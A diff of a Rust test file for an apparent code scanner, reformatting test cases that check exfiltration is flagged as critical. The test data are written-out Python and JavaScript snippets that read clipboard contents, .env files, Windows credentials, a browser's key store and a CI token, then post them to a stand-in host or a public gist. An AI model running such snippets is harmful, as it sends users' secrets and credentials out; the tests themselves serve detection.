@@ -184,10 +184,19 @@ fn the_stores_of_every_platform_are_sources() {
     // A clipboard read by any of its calls, dotenv's whole file, the
     // Windows credential manager, a browser's other stores.
     for (lang, code) in [
-        ("js", "const t = clipboard.readSync();\nfetch(\"https://x.example/p\", { method: \"POST\", body: t });"),
+        (
+            "js",
+            "const t = clipboard.readSync();\nfetch(\"https://x.example/p\", { method: \"POST\", body: t });",
+        ),
         ("python", "v = dotenv_values(\".env\")\nrequests.post(\"https://x.example/p\", json=v)"),
-        ("python", "c = win32cred.CredRead(\"corp\", 1)\nrequests.post(\"https://x.example/p\", data=str(c))"),
-        ("python", "k = open(base + \"/Local State\").read()\nrequests.post(\"https://x.example/p\", data=k)"),
+        (
+            "python",
+            "c = win32cred.CredRead(\"corp\", 1)\nrequests.post(\"https://x.example/p\", data=str(c))",
+        ),
+        (
+            "python",
+            "k = open(base + \"/Local State\").read()\nrequests.post(\"https://x.example/p\", data=k)",
+        ),
     ] {
         assert_hit(&block(lang, code), NET, Exfiltration, Critical, 5);
     }
@@ -220,7 +229,8 @@ fn dns_lookups_of_every_library_are_network_sinks() {
 
 #[test]
 fn a_command_that_uploads_runs_a_secret_out() {
-    let code = "t = os.environ[\"CI_JOB_TOKEN\"]\nsubprocess.run([\"gh\", \"gist\", \"create\", \"--public\", t])";
+    let code =
+        "t = os.environ[\"CI_JOB_TOKEN\"]\nsubprocess.run([\"gh\", \"gist\", \"create\", \"--public\", t])";
     assert_hit(&block("python", code), "code.source-to-exec", Exfiltration, Critical, 5);
     let local = "t = os.environ[\"CI_JOB_TOKEN\"]\nsubprocess.run([\"docker\", \"login\", \"-p\", t])";
     assert_severity(&block("python", local), "code.source-to-exec", Medium);
